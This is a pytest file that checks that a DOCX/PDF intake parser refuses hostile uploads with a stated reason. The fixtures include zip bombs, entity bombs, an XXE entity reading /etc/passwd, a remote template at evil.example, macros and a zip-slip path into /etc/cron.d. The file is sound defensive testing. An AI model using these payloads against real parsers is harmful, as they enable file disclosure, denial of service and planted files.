"""Hostile official documents: each refused in words, in bounded time and memory, and the next one is served."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from intake.apart import Unusable
from intake.official import read
from tests.abuse.test_uploads import ENTITIES, encrypted, lying, relation, zipped
from tests.unit.intake.official_samples import letter, letter_lines, locked, scan
from tests.unit.intake.samples import W, docx, paragraph, pdf

TEXT = paragraph("1. Học sinh nghỉ học ngày 08/9/2026.")
_NUMBERING = "word/numbering.xml"
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "zip bomb in the text": (lambda: docx(TEXT + " " * (60 << 20)), "bomb"),
    "zip bomb beside the text": (lambda: docx(TEXT, parts={"word/media/a.bmp": bytes(90 << 20)}), "bomb"),
    "zip bomb that lies": (lambda: lying(docx(TEXT + " " * (60 << 20)), b"word/document.xml", 900), "broken"),
    "too many parts": (lambda: docx(TEXT, parts={f"word/x{k}.xml": "" for k in range(2001)}), "bomb"),
    "entity bomb": (lambda: docx(TEXT, parts={"word/document.xml": f"{ENTITIES}<w>&e9;</w>"}), "broken"),
    "entity bomb in the numbering": (lambda: docx(TEXT, parts={_NUMBERING: f"{ENTITIES}<w>&e9;</w>"}), "broken"),
    "external entity": (
        lambda: docx(
            TEXT, parts={"word/document.xml": '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'}
        ),
        "broken",
    ),
    "deep XML": (lambda: docx("<w:tbl>" * 5000 + "</w:tbl>" * 5000), "broken"),
    "macros": (lambda: docx(TEXT, parts={"word/vbaProject.bin": b"x"}), "macros"),
    "remote template": (
        lambda: docx(TEXT, relations=relation("attachedTemplate", "http://evil.example/t.dotm")), "external",
    ),
    "encrypted DOCX": (lambda: encrypted(docx(TEXT)), "encrypted"),
    "any zip": (lambda: zipped({"../../etc/cron.d/x": b"a"}), "not_docx"),
    "encrypted PDF": (locked, "encrypted"),
    "a scan": (lambda: scan(40), "scanned"),
    "501 pages": (lambda: pdf([["a"]] * 501), "too_many_pages"),
    "10,000 pages": (lambda: pdf([["a"]] * 10_000), "too_many_pages"),
    "no pages": (lambda: pdf([]), "broken"),
    "PDF cut short": (lambda: pdf([letter_lines()])[:300], "broken"),
}  # fmt: skip


@pytest.mark.parametrize("case", REFUSED)
def test_refused_with_its_reason(case: str) -> None:
    make, code = REFUSED[case]
    with pytest.raises(Unusable) as caught:
        read(make())
    assert caught.value.code == code
    assert "passwd" not in str(caught.value) and "root:" not in str(caught.value)


def test_after_any_of_them_the_next_is_served() -> None:
    for case in ("entity bomb", "PDF cut short"):
        with pytest.raises(Unusable):
            read(REFUSED[case][0]())
        assert len(read(letter()).clauses) == 2


@pytest.mark.slow
def test_500_full_pages_are_read() -> None:
    page = [f"{k}. Học sinh lớp {k} nghỉ học ngày 08/9/2026 theo thông báo." for k in range(1, 31)]
    draft = read(pdf([page] * 500))
    assert draft.text.pages == 500 and len(draft.clauses) == 5_000  # the most that is kept of one document
    assert any("5000" in warning for warning in draft.warnings)


def test_numbering_that_points_nowhere_is_left_out() -> None:
    where = '<w:pPr><w:numPr><w:ilvl w:val="99999999999"/><w:numId w:val="-1"/></w:numPr></w:pPr>'
    body = f"<w:p>{where}<w:r><w:t>Học sinh nghỉ học.</w:t></w:r></w:p>"
    levels = '<w:lvl w:ilvl="²"><w:start w:val="9999999999"/><w:lvlText w:val="%9%9%9"/></w:lvl>'
    numbering = (
        f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="1">{levels}</w:abstractNum>'
        '<w:num w:numId="-1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
    )
    assert [c.text for c in read(docx(body, parts={_NUMBERING: numbering})).clauses] == ["Học sinh nghỉ học."]
